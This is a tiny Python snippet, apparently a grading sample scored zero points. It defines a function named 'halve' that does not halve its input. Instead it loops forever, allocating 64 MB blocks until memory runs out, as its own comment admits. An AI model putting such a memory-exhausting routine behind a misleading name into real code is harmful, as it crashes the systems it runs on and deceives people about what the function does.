# points: 0
# It takes all the memory it can.
def halve(number):
    held = []
    while True:
        held.append(bytearray(64 << 20))
